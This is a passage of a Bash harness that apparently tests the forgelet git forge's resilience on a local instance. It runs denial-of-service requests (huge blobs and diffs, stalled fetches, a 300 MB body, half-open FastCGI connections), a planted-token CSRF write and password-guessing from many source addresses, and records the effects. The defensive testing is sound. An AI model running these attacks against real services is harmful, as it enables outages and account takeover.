if [ "${#alice_pw}" -lt 16 ] || [ "${#mallory_pw}" -lt 16 ]; then die "could not make random passwords"; fi
say "forgelet user add alice, mallory; the repositories"
printf '%s\n' "$alice_pw" | admin user add alice --password-stdin >/dev/null || die "user add alice failed"
printf '%s\n' "$mallory_pw" | admin user add mallory --password-stdin >/dev/null || die "user add mallory failed"
import() {
    admin repo import "$1" "$2" >/dev/null || die "repo import $1 failed"
}
if want blob; then import mallory/big "$repo_big"; fi
if want diff filter; then import mallory/diff "$repo_diff"; fi
if want refs; then
    import mallory/refs12k "$repo_refs12k"
    import mallory/refs7800 "$repo_refs7800"
    loose=$(find "$run/data/repos/mallory/refs7800.git/refs/heads" -type f | wc -l)
    [ "$loose" -ge 7800 ] || die "mallory/refs7800 has $loose loose branches after the import, not 7,800"
fi
if want stall; then
    import alice/stall "$repo_stall"
    import alice/work "$repo_base"
fi
if want csrf; then import alice/site "$repo_base"; fi
if want lockout; then
    import alice/private "$repo_base"
    admin repo set alice/private --visibility private >/dev/null || die "repo set alice/private failed"
fi
if want names; then import mallory/own "$repo_base"; fi
if want purge; then import alice/purge "$repo_base"; fi
if want reflink; then
    admin repo create mallory/refname >/dev/null || die "repo create mallory/refname failed"
    admin repo create mallory/refname4 >/dev/null || die "repo create mallory/refname4 failed"
fi

# The shipped snippet (or --snippet), with its socket and repositories folder replaced as
# bench.sh does.
for literal in 'location ^~ /git/ {' 'unix:/run/forgelet/forgelet.sock;' \
    'alias /var/lib/forgelet/repos/;' 'location ^~ /.forgelet-repos/ {'; do
    grep -qF -- "$literal" "$snippet" || die "$snippet no longer contains '$literal'; update attacks.sh"
done
sed -e "s|unix:/run/forgelet/forgelet.sock;|unix:$socket;|" \
    -e "s|alias /var/lib/forgelet/repos/;|alias $run/data/repos/;|" \
    "$snippet" >"$run/nginx/forgelet.conf"
cp "$fastcgi_params" "$run/nginx/fastcgi_params"
write_nginx_conf() {
    local user=
    if [ "$(id -u)" -eq 0 ]; then
        user='user root root;'
    fi
    cat >"$run/nginx/nginx.conf" <<EOF2
$user
daemon off;
master_process on;
worker_processes 1;
pid $run/nginx/nginx.pid;
error_log $run/nginx/error.log warn;
events { worker_connections 2048; }
http {
    access_log $run/nginx/access.log combined buffer=64k flush=1s;
    client_body_temp_path $run/nginx/temp/body;
    proxy_temp_path $run/nginx/temp/proxy;
    fastcgi_temp_path $run/nginx/temp/fastcgi;
    uwsgi_temp_path $run/nginx/temp/uwsgi;
    scgi_temp_path $run/nginx/temp/scgi;
    types { }
    default_type application/octet-stream;
    sendfile on;
    tcp_nopush on;
    server {
        listen 127.0.0.1:$1;
        server_name localhost;
        root $run/empty-root;
        include $run/nginx/forgelet.conf;
    }
}
EOF2
}
port=
for ((try = 0; try < 20; try++)); do
    candidate=$((20000 + (RANDOM * 32768 + RANDOM) % 30000))
    port_in_use "$candidate" && continue
    write_nginx_conf "$candidate"
    env -u NGINX "$nginx_bin" -t -q -p "$run/nginx" -c "$run/nginx/nginx.conf" -e "$run/nginx/error.log" ||
        die "nginx -t failed (see above)"
    env -u NGINX "$nginx_bin" -p "$run/nginx" -c "$run/nginx/nginx.conf" -e "$run/nginx/error.log" \
        </dev/null >/dev/null 2>"$run/nginx/stderr.log" &
    nginx_pid=$!
    if wait_until nginx "$nginx_pid" port_in_use "$candidate"; then
        port=$candidate
        break
    fi
    wait "$nginx_pid" 2>/dev/null || true
    nginx_pid=
done
[ -n "$port" ] || die "could not start nginx on a free port (see $run/nginx/error.log)"
write_config "$port"
base=http://127.0.0.1:$port

front_ok() {
    [ "$(curl -s --noproxy '*' --max-time 5 -o /dev/null -w '%{http_code}' "$base/git/")" = 200 ]
}
start_forgelet() {
    rm -f "$socket"
    RUST_LOG=${RUST_LOG:-warn} "$bin" --config "$config" serve </dev/null >>"$run/forgelet.log" 2>&1 &
    forgelet_pid=$!
    wait_until "forgelet's socket" "$forgelet_pid" test -S "$socket" ||
        die "forgelet serve exited: $(tail -n 20 "$run/forgelet.log")"
    wait_until "GET /git/ answering 200" "$forgelet_pid" front_ok ||
        die "forgelet exited: $(tail -n 20 "$run/forgelet.log")"
    # The measured process is forgelet itself, not a shell around it.
    [ "$(cat "/proc/$forgelet_pid/comm")" = "$(basename "$bin" | cut -c1-15)" ] ||
        die "process $forgelet_pid is not $bin but $(cat "/proc/$forgelet_pid/comm")"
}
# restart_forgelet: a fresh process (its limiter, caches and VmHWM start anew), after one GET /git/.
restart_forgelet() {
    stop "$forgelet_pid"
    forgelet_pid=
    start_forgelet
}
say "forgelet serve on $socket ($bin), nginx on 127.0.0.1:$port"
start_forgelet

# --- measuring -----------------------------------------------------------------------------------
now() {
    date +%s.%N
}
secs() {
    awk -v a="$1" -v b="$2" 'BEGIN { printf "%.3f", b - a }'
}
kib_of() {
    awk -v k="$2" '$1 == k ":" { print $2 }' "/proc/$1/status" 2>/dev/null || true
}
mib() {
    case $1 in '' | -) printf -- '-' ;; *) awk -v k="$1" 'BEGIN { printf "%.0f", k / 1024 }' ;; esac
}
# mem_begin [DIR]: VmRSS of forgelet now (m_before), then a sampler of forgelet's VmRSS, its
# descendants' summed VmRSS (and the bytes in DIR, including the unlinked temp files nginx's
# workers hold open there) every 20 ms until mem_end.
sampler_pid=
mem_begin() {
    m_before=$(kib_of "$forgelet_pid" VmRSS)
    rm -f "$run/sample.out"
    "$python" "$helper" sample "$forgelet_pid" "$run/sample.out" ${1:+--dir "$1" --dir-pid "$nginx_pid"} &
    sampler_pid=$!
    bg_pids+=("$sampler_pid")
    sleep 0.2
}
# mem_end: sets m_peak, m_kids (KiB), m_dir (bytes), m_hwm (forgelet's VmHWM, KiB).
mem_end() {
    local i
    m_hwm=$(kib_of "$forgelet_pid" VmHWM)
    kill -TERM "$sampler_pid" 2>/dev/null || true
    for ((i = 0; i < 100; i++)); do
        [ -f "$run/sample.out" ] && break
        sleep 0.05
    done
    stop "$sampler_pid"
    m_peak=- m_kids=- m_dir=0
    if [ -f "$run/sample.out" ]; then
        read -r m_peak m_kids m_dir _ <"$run/sample.out"
    fi
    [ -n "$m_hwm" ] || m_hwm=-
}
# hget NAME URL [CURL ARGS...]: one request with curl (at most 120 s unless --max-time is given);
# sets h_code, h_bytes, h_time, h_rc (curl's exit status: 28 = timed out); the body and headers
# are kept in out/NAME.body and out/NAME.head.
hget() {
    local name=$1 url=$2 out
    shift 2
    out=$(curl -sS --noproxy '*' --max-time 120 -o "$run/out/$name.body" -D "$run/out/$name.head" \
        -w '%{http_code} %{size_download} %{time_total}' "$@" "$url" 2>"$run/out/$name.err") && h_rc=0 || h_rc=$?
    read -r h_code h_bytes h_time <<<"${out:-000 0 0}"
    h_time=$(awk -v t="$h_time" 'BEGIN { printf "%.3f", t }')
}
# code_of: the status as shown, with curl's timeout or error.
code_of() {
    case $h_rc in
        0) printf '%s' "$h_code" ;;
        28) printf '%s (timed out)' "$([ "$h_code" = 000 ] && echo none || echo "$h_code")" ;;
        *) printf '%s (curl exit %s)' "$([ "$h_code" = 000 ] && echo none || echo "$h_code")" "$h_rc" ;;
    esac
}
# A figure: printed now, and kept for the table at the end.
rows=()
fig() {
    local attack=$1 what=$2 time=$3 before=$4 peak=$5 hwm=$6 kids=$7 status=$8 note=${9:-}
    printf '%-8s | %-58s | time %6s s | forgelet RSS %5s -> %5s MiB, VmHWM %5s | git %5s MiB | %s | %s\n' \
        "$attack" "$what" "$time" "$(mib "$before")" "$(mib "$peak")" "$(mib "$hwm")" "$(mib "$kids")" \
        "$status" "$note"
    rows+=("$attack"$'\t'"$what"$'\t'"$time"$'\t'"$(mib "$before")"$'\t'"$(mib "$peak")"$'\t'"$(mib "$hwm")"$'\t'"$(mib "$kids")"$'\t'"$status"$'\t'"$note")
}

# git_run NAME CAP CMD...: runs a git command (capped at CAP seconds, curl traced); sets g_rc,
# g_time and g_statuses (the HTTP statuses git received, in order, repeats folded: 200x3).
git_run() {
    local name=$1 cap=$2 start end
    shift 2
    rm -f "$run/out/$name.trace"
    start=$(now)
    GIT_TRACE_CURL=$run/out/$name.trace GIT_TRACE_CURL_NO_DATA=1 \
        timeout -k 5 "$cap" "$@" >"$run/out/$name.out" 2>"$run/out/$name.err" && g_rc=0 || g_rc=$?
    end=$(now)
    g_time=$(secs "$start" "$end")
    g_statuses=$(trace_statuses "$run/out/$name.trace")
}
trace_statuses() {
    [ -f "$1" ] || { printf 'none'; return; }
    sed -n 's/.*<= Recv header: HTTP\/[0-9.]* \([0-9][0-9][0-9]\).*/\1/p' "$1" | awk '
        $1 == last { n++; next }
        { if (last != "") { out = out sep last (n > 1 ? "x" n : ""); sep = "," } last = $1; n = 1 }
        END { if (last != "") out = out sep last (n > 1 ? "x" n : ""); print (out == "" ? "none" : out) }'
}
# git_outcome: "ok", "timed out (> CAP s)" or "failed (exit N): <git's last error line>".
git_outcome() {
    local cap=$1 msg
    if [ "$g_rc" = 0 ]; then
        printf 'ok'
    elif [ "$g_rc" = 124 ] || [ "$g_rc" = 137 ]; then
        printf 'timed out (> %s s)' "$cap"
    else
        msg=$(grep -E 'error|fatal|remote:' "$2" 2>/dev/null | tail -n 1 |
            sed -e "s/^fatal: unable to access '[^']*': //" | cut -c1-100)
        printf 'failed (exit %s): %s' "$g_rc" "$msg"
    fi
}
# Form helpers: the csrf field of a page, a cookie from a curl jar, a page's message.
csrf_field() {
    grep -o 'name="csrf"[^>]*' "$1" | sed -n 's/.*value="\([^"]*\)".*/\1/p' | head -n 1
}
jar_cookie() {
    awk -F'\t' -v n="$2" 'NF >= 7 && ($6 == n || substr($6, length($6) - length(n)) == "-" n) { c = $6 "=" $7 } END { print c }' "$1" 2>/dev/null
}
page_message() {
    tr '\n' ' ' <"$1" | grep -o '<p class="[^"]*" role="\(alert\|status\)">[^<]*</p>' | head -n 1 |
        sed -e 's/<[^>]*>//g' -e 's/&#34;/"/g' -e 's/&quot;/"/g' -e "s/&#39;/'/g" -e 's/&lt;/</g' \
            -e 's/&gt;/>/g' -e 's/&amp;/\&/g'
}
# sign_in USER PASSWORD JAR [SOURCE ADDRESS [keep]]: GET and POST /git/login with the cookie jar
# JAR (emptied first, unless keep: a browser that has been here before); sets si_code.
sign_in() {
    local user=$1 pw=$2 jar=$3 src=${4:-127.0.0.1} token
    [ "${5:-}" = keep ] || rm -f "$jar"
    hget "login-form-$user" "$base/git/-/login" --max-time 30 --interface "$src" -c "$jar" -b "$jar"
    token=$(csrf_field "$run/out/login-form-$user.body")
    hget "login-$user" "$base/git/-/login" --max-time 30 --interface "$src" -c "$jar" -b "$jar" \
        --data-urlencode "user=$user" --data-urlencode "password=$pw" --data-urlencode "csrf=$token" \
        --data-urlencode "next=/git/"
    si_code=$h_code
}

# --- 1. blob -------------------------------------------------------------------------------------
attack_blob() {
    local home=$base/git/mallory/big start end codes i k
    local -a pages=("" /blob/main/README.md /raw/main/README.md /tree/main) pids=()
    say "blob: mallory/big, README.md = 1 GiB of zeros in a $(du -sk "$repo_big/objects/pack" | cut -f1) KiB pack"
    restart_forgelet
    mem_begin
    hget blob-home "$home"
    mem_end
    fig blob "GET /git/mallory/big (home), anonymous" "$h_time" "$m_before" "$m_peak" "$m_hwm" "$m_kids" \
        "$(code_of)" "$h_bytes bytes"

    restart_forgelet
    mem_begin
    start=$(now)
    for ((k = 0; k < 4; k++)); do
        hget "blob-four-$k" "$home${pages[k]}" &
        pids+=($!)
    done
    for i in "${pids[@]}"; do wait "$i" || true; done
    end=$(now)
    mem_end
    codes=
    for ((k = 0; k < 4; k++)); do
        codes+="${codes:+,}$(sed -n 's/^HTTP\/[0-9.]* \([0-9]*\).*/\1/p' "$run/out/blob-four-$k.head" 2>/dev/null | tail -n 1)"
    done
    fig blob "4 at once: home, blob/, raw/, tree/ main (README.md)" "$(secs "$start" "$end")" "$m_before" \
        "$m_peak" "$m_hwm" "$m_kids" "$codes" "statuses in that order; raw: $(wc -c <"$run/out/blob-four-2.body") bytes"

    restart_forgelet
    mem_begin
    hget blob-archive "$home/archive/main.tar.gz" --max-time 60
    mem_end
    fig blob "GET archive/main.tar.gz (max 60 s)" "$h_time" "$m_before" "$m_peak" "$m_hwm" "$m_kids" \
        "$(code_of)" "$h_bytes bytes received"
}

# --- 2. diff -------------------------------------------------------------------------------------
attack_diff() {
    local commit url large start end codes k p0 p1
    commit=$(git -C "$repo_diff" rev-parse main)
    url=$base/git/mallory/diff/commit/$commit
    say "diff: mallory/diff, commit ${commit:0:12} changes one line of a $(git -C "$repo_diff" cat-file -s main:big.txt)-byte big.txt"
    restart_forgelet
    mem_begin
    hget diff-one "$url"
    mem_end
    large=$(grep -ci 'too large' "$run/out/diff-one.body" || true)
    fig diff "GET commit/<id>, anonymous" "$h_time" "$m_before" "$m_peak" "$m_hwm" "$m_kids" "$(code_of)" \
        "$h_bytes bytes; says \"too large\": $([ "${large:-0}" -gt 0 ] && echo yes || echo no)"

    restart_forgelet
    mem_begin
    start=$(now)
    hget diff-two-0 "$url" &
    p0=$!
    hget diff-two-1 "$url" &
    p1=$!
    wait "$p0" || true
    wait "$p1" || true
    end=$(now)
    mem_end
    codes=$(for k in 0 1; do sed -n 's/^HTTP\/[0-9.]* \([0-9]*\).*/\1/p' "$run/out/diff-two-$k.head" 2>/dev/null | tail -n 1; done | paste -sd, -)
    fig diff "2 at once: GET commit/<id>" "$(secs "$start" "$end")" "$m_before" "$m_peak" "$m_hwm" "$m_kids" \
        "${codes:-none}" ""
}

# --- 3. refs -------------------------------------------------------------------------------------
attack_refs() {
    local url=$base/git/mallory/refs12k out rps n bad p50 p99 codes k load_pid idle busy lout
    say "refs: mallory/refs12k ($(git -C "$repo_refs12k" for-each-ref | wc -l) packed refs), mallory/refs7800 (7,800 loose branches)"
    restart_forgelet
    hget refs-home "$url"
    fig refs "GET home of the 12,001-ref repository, once" "$h_time" - - - - "$(code_of)" "$h_bytes bytes"
    if [ "$have_wrk" = 1 ]; then
        out=$run/out/refs-wrk.txt
        timeout -k 5 60 wrk -t2 -c8 -d5s --timeout 30s --latency "$url" >"$out" 2>&1 || true
        read -r rps n bad p50 <<<"$(awk '$1 == "Requests/sec:" { rps = $2 }
            / requests in / { n = $1 }
            /Non-2xx or 3xx responses:/ { bad += $NF }
            /Socket errors:/ { gsub(",", ""); bad += $4 + $6 + $8 + $10 }
            $1 == "50%" { p50 = $2 }
            END { printf "%s %s %d %s\n", (rps == "" ? "?" : rps), (n == "" ? "?" : n), bad, (p50 == "" ? "?" : p50) }' "$out")"
        fig refs "home of the 12,001-ref repository: req/s, 5 s, 8 connections" 5 - - - - \
            "$([ "$bad" = 0 ] && echo "all 2xx" || echo "$bad non-2xx/errors")" "$rps req/s (wrk -t2 -c8: $n requests, median $p50)"
    else
        "$python" "$helper" load --port "$port" --path /git/mallory/refs12k --conc 8 --cap 5 \
            --out "$run/out/refs-rps.txt" || true
        read -r n bad _ <"$run/out/refs-rps.txt"
        fig refs "home of the 12,001-ref repository: req/s, 5 s, 8 connections" 5 - - - - \
            "$bad of $n 200" "$(awk -v n="$bad" 'BEGIN { printf "%.1f", n / 5 }') req/s (no wrk: Python client, 8 threads)"
    fi

    restart_forgelet
    idle=$("$python" "$helper" latency --port "$port" --path /git/ --n 100 --cap 60 --timeout 30)
    read -r n p50 p99 _ codes <<<"$idle"
    fig refs "front page /git/, 100 sequential GETs, idle" "$p99" - - - - "$codes" \
        "p50 $(awk -v v="$p50" 'BEGIN { printf "%.4f", v }') s, p99 $p99 s ($n requests)"
    lout=$run/out/refs-load.txt
    "$python" "$helper" load --port "$port" --path /git/mallory/refs7800.git/info/refs --conc 24 \
        --timeout 60 --cap 200 --out "$lout" &
    load_pid=$!
    bg_pids+=("$load_pid")
    sleep 1
    busy=$("$python" "$helper" latency --port "$port" --path /git/ --n 100 --cap 60 --timeout 30)
    kill -TERM "$load_pid" 2>/dev/null || true
    for ((k = 0; k < 100; k++)); do [ -f "$lout" ] && break; sleep 0.05; done
    stop "$load_pid"
    read -r n p50 p99 _ codes <<<"$busy"
    local ln='?' lok='?' lsecs='?'
    [ -f "$lout" ] && read -r ln lok lsecs <"$lout"
    fig refs "front page /git/ during 24 loops of dumb info/refs (7,800 br.)" "$p99" - - - - "$codes" \
        "p50 $p50 s, p99 $p99 s ($n requests in at most 60 s); info/refs: $lok of $ln 200 in $lsecs s"
}

# --- 4. stall ------------------------------------------------------------------------------------
# start_stall NAME ARGS...: the helper's stalled readers in the background; waits (capped) until
# they have their response headers or gave up waiting; sets st_statuses (one per reader, in order:
# a status, "none" for no headers yet, "closed") and st_adv (the statuses of their ref
# advertisements, asked for first).
stall_pid=
start_stall() {
    local name=$1 i
    shift
    rm -f "$run/out/$name.ready"
    "$python" "$helper" stall --port "$port" --ready "$run/out/$name.ready" "$@" \
        >"$run/out/$name.log" 2>&1 &
    stall_pid=$!
    bg_pids+=("$stall_pid")
    for ((i = 0; i < 1200; i++)); do
        [ -f "$run/out/$name.ready" ] && break
        kill -0 "$stall_pid" 2>/dev/null || break
        sleep 0.1
    done
    if [ -f "$run/out/$name.ready" ]; then
        st_statuses=$(sed -n 1p "$run/out/$name.ready")
        st_adv=$(sed -n 2p "$run/out/$name.ready")
    else
        st_statuses="helper-failed"
        st_adv="helper-failed"
        printf 'attacks.sh: the stall helper gave no result: %s\n' "$(tail -n 1 "$run/out/$name.log")" >&2
    fi
}
stop_stall() {
    stop "$stall_pid"
    stall_pid=
}
# fold: "200 200 none 503" -> "200x2 nonex1 503x1" (counts of each, in first-seen order).
fold() {
    tr ' ' '\n' | awk 'NF { if (!($1 in n)) order[k++] = $1; n[$1]++ }
        END { for (i = 0; i < k; i++) printf "%s%sx%d", (i ? " " : ""), order[i], n[order[i]] }'
}

# shellcheck disable=SC2317 # op_* are called by name
attack_stall() {
    local work=$base/git/alice/work.git push_url=http://alice:$alice_pw@127.0.0.1:$port/git/alice/work.git
    local want op cap=120 last k stalled40
    want=$(git -C "$repo_stall" rev-parse main)
    say "stall: alice/stall ($(du -sk "$repo_stall/objects/pack" | awk '{ printf "%.1f", $1 / 1024 }') MiB packed) read by stalled v2 fetches; real git on alice/work"
    restart_forgelet
    # Clones for the fetch and the push, made before anything stalls.
    rm -rf "$run/work/fetch" "$run/work/push"
    if ! git clone -q "$work" "$run/work/fetch" 2>"$run/out/stall-setup.err" ||
        ! git clone -q "$push_url" "$run/work/push" 2>>"$run/out/stall-setup.err"; then
        die "cloning alice/work failed: $(cat "$run/out/stall-setup.err")"
    fi
    # The operations, called as op_$op below.
    op_clone() {
        rm -rf "$run/work/clone-$1"
        git_run "stall-clone-$1" "$cap" git clone -q --bare "$work" "$run/work/clone-$1"
    }
    op_fetch() {
        git -C "$run/work/fetch" update-ref -d refs/remotes/origin/main
        git_run "stall-fetch-$1" "$cap" git -C "$run/work/fetch" fetch -q origin
    }
    op_push() {
        git -C "$run/work/push" commit -q --allow-empty -m "Push $1"
        git_run "stall-push-$1" "$cap" git -C "$run/work/push" push -q origin HEAD:main
    }
    op_ls_remote() {
        git_run "stall-ls-remote-$1" "$cap" git ls-remote "$work"
    }
    for op in clone fetch push ls_remote; do
        restart_forgelet
        start_stall "stall4-$op" --kind fetch --repo /git/alice/stall.git --want "$want" --count 4 --header-wait 20
        sleep 1
        "op_$op" "four-$op"
        stop_stall
        fig stall "git ${op/_/-} beside 4 stalled readers (all from 127.0.0.1)" "$g_time" - - - - "$g_statuses" \
            "$(git_outcome "$cap" "$run/out/stall-${op/_/-}-four-$op.err"); stalled: $(fold <<<"$st_statuses") (their advertisements: $(fold <<<"$st_adv"))"
    done

    restart_forgelet
    start_stall stall37 --kind fetch --repo /git/alice/stall.git --want "$want" --count 37 --src-first 2 \
        --header-wait 8
    last=$(awk '{ print $NF }' <<<"$st_statuses")
    fig stall "the 37th of 37 stalled readers (127.0.0.2..38)" - - - - - "$last" \
        "all 37: $(fold <<<"$st_statuses") (their advertisements: $(fold <<<"$st_adv"))"
    op_ls_remote thirty-seven
    stop_stall
    fig stall "git ls-remote beside 37 stalled readers" "$g_time" - - - - "$g_statuses" \
        "$(git_outcome "$cap" "$run/out/stall-ls-remote-thirty-seven.err")"

    restart_forgelet
    start_stall stall40 --kind fetch --repo /git/alice/stall.git --want "$want" --count 40 --src-first 2 \
        --header-wait 8
    stalled40="$(fold <<<"$st_statuses") (their advertisements: $(fold <<<"$st_adv"))"
    local -a pids=()
    for op in clone push ls_remote; do
        (
            "op_$op" forty
            printf '%s\t%s\t%s\t%s\n' "$g_rc" "$g_time" "$g_statuses" \
                "$(git_outcome "$cap" "$run/out/stall-${op/_/-}-forty.err")" >"$run/out/stall40-$op.result"
        ) &
        pids+=($!)
    done
    for k in "${pids[@]}"; do wait "$k" || true; done
    stop_stall
    for op in clone push ls_remote; do
        local rc t s o
        IFS=$'\t' read -r rc t s o <"$run/out/stall40-$op.result" || { t=- s=none o="no result"; }
        fig stall "git ${op/_/-} (127.0.0.1) beside 40 stalled readers (.2-.41)" "$t" - - - - "$s" \
            "$o; stalled: $stalled40"
    done

    restart_forgelet
    start_stall stall-archive --kind get --url /git/alice/stall/archive/main.tar.gz --count 2 --header-wait 20
    sleep 1
    hget stall-archive-third "$base/git/alice/stall/archive/main.tar.gz" --max-time 60
    stop_stall
    fig stall "3rd download of archive/main.tar.gz beside 2 stalled ones" "$h_time" - - - - "$(code_of)" \
        "$h_bytes bytes; stalled: $(fold <<<"$st_statuses")"
}

# --- 5. filter -----------------------------------------------------------------------------------
attack_filter() {
    local blob head out st bytes t result
    blob=$(git -C "$repo_diff" rev-parse main:big.txt)
    head=$(git -C "$repo_diff" rev-parse main)
    say "filter: v2 fetch of mallory/diff with filter sparse:oid=$blob ($(git -C "$repo_diff" cat-file -s "$blob") bytes)"
    restart_forgelet
    mem_begin
    out=$("$python" "$helper" v2fetch --port "$port" --repo /git/mallory/diff.git --want "$head" \
        --filter "sparse:oid=$blob" --timeout 120) || out="0 0 - helper-failed"
    mem_end
    read -r st bytes t result _ <<<"$out"
    fig filter "v2 fetch, filter sparse:oid=<60 MB blob>, anonymous" "$t" "$m_before" "$m_peak" "$m_hwm" \
        "$m_kids" "$st" "$result, $bytes bytes of response"
}

# --- 6. body -------------------------------------------------------------------------------------
attack_body() {
    local file=$run/body-300m.bin ho_pid ready i result total closed first lastc spooled_before
    say "body: a 300 MB POST to /git/-/login; 520 FastCGI connections stuck in PARAMS"
    truncate -s 300M "$file"
    restart_forgelet
    mkdir -p "$run/nginx/temp/body"
    spooled_before=$(grep -c 'client request body is buffered to a temporary file' "$run/nginx/error.log" || true)
    mem_begin "$run/nginx/temp/body"
    hget body-login "$base/git/-/login" --max-time 60 -H 'Content-Type: application/x-www-form-urlencoded' \
        --data-binary "@$file"
    mem_end
    rm -f "$file"
    fig body "POST /git/-/login with a 300 MB body" "$h_time" "$m_before" "$m_peak" "$m_hwm" "$m_kids" "$(code_of)" \
        "nginx's client_body_temp peaked at $(awk -v b="$m_dir" 'BEGIN { printf "%.1f", b / 1048576 }') MiB (sampled); nginx logged spooling it to a temp file: $([ "$(grep -c 'client request body is buffered to a temporary file' "$run/nginx/error.log" || true)" -gt "$spooled_before" ] && echo yes || echo no)"

    restart_forgelet
    ready=$run/out/halfopen.ready
    rm -f "$ready"
    if [ "$long" = 1 ]; then
        "$python" "$helper" halfopen --socket "$socket" --count 520 --ready "$ready" --watch --cap 330 \
            >"$run/out/halfopen.out" 2>&1 &
    else
        "$python" "$helper" halfopen --socket "$socket" --count 520 --ready "$ready" --cap 330 \
            >"$run/out/halfopen.out" 2>&1 &
    fi
    ho_pid=$!
    bg_pids+=("$ho_pid")
    for ((i = 0; i < 600; i++)); do
        [ -f "$ready" ] && break
        kill -0 "$ho_pid" 2>/dev/null || break
        sleep 0.1
    done
    read -r total _ _ <"$ready" 2>/dev/null || total=0
    sleep 1
    hget body-front "$base/git/" --max-time 30
    fig body "GET /git/ beside 520 FastCGI conns stuck in PARAMS" "$h_time" - - - - "$(code_of)" \
        "$total of 520 connected to forgelet's socket"
    if [ "$long" = 1 ]; then
        say "body: waiting (at most 330 s) for forgelet to close the 520 connections"
        for ((i = 0; i < 3500; i++)); do
            kill -0 "$ho_pid" 2>/dev/null || break
            sleep 0.1
        done
        stop "$ho_pid"
        result=$(cat "$run/out/halfopen.out" 2>/dev/null)
        read -r total closed first lastc <<<"$result"
        if [ -z "${closed:-}" ]; then
            fig body "forgelet closes the 520 stuck connections after" - - - - - - "no result: $result"
        elif [ "$closed" = 0 ]; then
            fig body "forgelet closes the 520 stuck connections after" "> 330" - - - - - \
                "none of $total closed within 330 s"
        elif [ "$closed" -lt "$total" ]; then
            fig body "forgelet closes the 520 stuck connections after" "$lastc; rest > 330" - - - - - \
                "$closed of $total closed, each $first to $lastc s after it sent its half record; the other $((total - closed)) still open at 330 s (the cap)"
        else
            fig body "forgelet closes the 520 stuck connections after" "$lastc" - - - - - \
                "all $total closed, each $first to $lastc s after it sent its half record"
        fi
    else
        stop "$ho_pid"
        fig body "forgelet closes the 520 stuck connections after" - - - - - - "skipped (--long measures it)"
    fi
}

# --- 7. csrf -------------------------------------------------------------------------------------
attack_csrf() {
    local desc=$run/data/repos/alice/site.git/description before after session planted token out code
    say "csrf: a (cookie, token) pair from GET /login planted beside alice's session cookie"
    restart_forgelet
    sign_in alice "$alice_pw" "$run/out/alice.jar"
    session=$(jar_cookie "$run/out/alice.jar" forgelet_session)
    [ -n "$session" ] || { fig csrf "alice signs in" - - - - - "$si_code" "no session cookie: cannot go on"; return; }
    hget csrf-outsider "$base/git/-/login" --max-time 30 -c "$run/out/outsider.jar"
    planted=$(jar_cookie "$run/out/outsider.jar" forgelet_csrf)
    token=$(csrf_field "$run/out/csrf-outsider.body")
    before=$(cat "$desc" 2>/dev/null || true)
    hget csrf-post "$base/git/alice/site/settings" --max-time 30 -H "Cookie: $session; $planted" \
        --data-urlencode action=general --data-urlencode description=pwned --data-urlencode visibility=public \
        --data-urlencode "csrf=$token"
    after=$(cat "$desc" 2>/dev/null || true)
    code=$(code_of)
    fig csrf "POST alice/site/settings, alice's session + planted pair" "$h_time" - - - - "$code" \
        "description changed: $([ "$before" != "$after" ] && echo "yes ('$after')" || echo no); sign-in $si_code; planted ${planted:+${planted%%=*}}$([ -z "$planted" ] && echo 'no csrf cookie')"
}

# --- 8. lockout ----------------------------------------------------------------------------------
# attempt SRC PASSWORD NAME: one sign-in as alice from SRC with a fresh browser; prints the status.
attempt() {
    sign_in alice "$2" "$run/out/attempt-$3.jar" "$1"
    printf '%s' "$si_code"
}
# alice_web I: alice signs in from 127.0.0.1 with her own browser (its cookies kept from her
# earlier visit, but signed out: no session cookie); prints the status.
alice_web() {
    local jar=$run/out/alice-browser.jar
    if [ -f "$jar" ]; then
        grep -v 'forgelet_session' "$jar" >"$jar.tmp" || true
        mv "$jar.tmp" "$jar"
    fi
    sign_in alice "$alice_pw" "$jar" 127.0.0.1 keep
    printf '%s' "$si_code"
}
attack_lockout() {
    local i t0 earlier_web earlier_git web=() git=() wrong=() later=() private_url
    private_url=http://alice:$alice_pw@127.0.0.1:$port/git/alice/private.git
    say "lockout: alice signs in from 127.0.0.1; 61 s later 25 wrong passwords for her from 127.0.0.2-26, then one every 3 s for 30 s"
    restart_forgelet
    # alice has used the site before, from this address and this browser; the attack starts
    # after the 60 s for which forgelet remembers a verified password, so that the figures show
    # the limiter and not that cache.
    t0=$(now)
    earlier_web=$(alice_web)
    git_run lockout-git-earlier 30 git ls-remote "$private_url"
    earlier_git=$g_statuses
    sleep "$(awk -v a="$t0" -v b="$(now)" 'BEGIN { d = 61 - (b - a); printf "%.2f", (d > 0 ? d : 0) }')"
    for ((i = 2; i <= 26; i++)); do
        wrong+=("$(attempt "127.0.0.$i" "wrong-password-$i" "w$i")")
    done
    fig lockout "25 wrong passwords for alice, 127.0.0.2-26" - - - - - "$(fold <<<"${wrong[*]}")" \
        "the attacker's statuses; alice had signed in from 127.0.0.1 61 s before: web $earlier_web, git $earlier_git"
    for ((i = 0; i < 10; i++)); do
        t0=$(now)
        later+=("$(attempt "127.0.0.$((100 + i))" "wrong-again-$i" "l$i")")
        web+=("$(alice_web)")
        git_run "lockout-git-$i" 30 git ls-remote "$private_url"
        git+=("$(awk -F, '{ print $NF }' <<<"$g_statuses" | sed 's/x[0-9]*$//')$([ "$g_rc" = 0 ] && echo '' || echo '!')")
        sleep "$(awk -v a="$t0" -v b="$(now)" 'BEGIN { d = 3 - (b - a); printf "%.2f", (d > 0 ? d : 0) }')"
    done
    fig lockout "alice's password on the web, 10 tries over 30 s (127.0.0.1)" - - - - - "${web[*]}" \
        "303 = signed in; attacker's wrong tries meanwhile (127.0.0.100-109): $(fold <<<"${later[*]}")"
    fig lockout "alice's password for git ls-remote (private repo), 10 tries" - - - - - "${git[*]}" \
        "final status of each git ls-remote; ! = git failed"
}

# --- 9. names ------------------------------------------------------------------------------------
attack_names() {
    local jar=$run/out/mallory.jar token s1 m1 s2 m2 n1 n2
    say "names: mallory adds collaborators alice and nobody-zz9 to mallory/own"
    restart_forgelet
    sign_in mallory "$mallory_pw" "$jar"
    hget names-settings "$base/git/mallory/own/settings" --max-time 30 -b "$jar" -c "$jar"
    token=$(csrf_field "$run/out/names-settings.body")
    hget names-alice "$base/git/mallory/own/settings" --max-time 30 -b "$jar" -c "$jar" \
        --data-urlencode action=add_collaborator --data-urlencode user=alice --data-urlencode perm=read \
        --data-urlencode "csrf=$token"
    s1=$(code_of)
    m1=$(page_message "$run/out/names-alice.body")
    hget names-nobody "$base/git/mallory/own/settings" --max-time 30 -b "$jar" -c "$jar" \
        --data-urlencode action=add_collaborator --data-urlencode user=nobody-zz9 --data-urlencode perm=read \
        --data-urlencode "csrf=$token"
    s2=$(code_of)
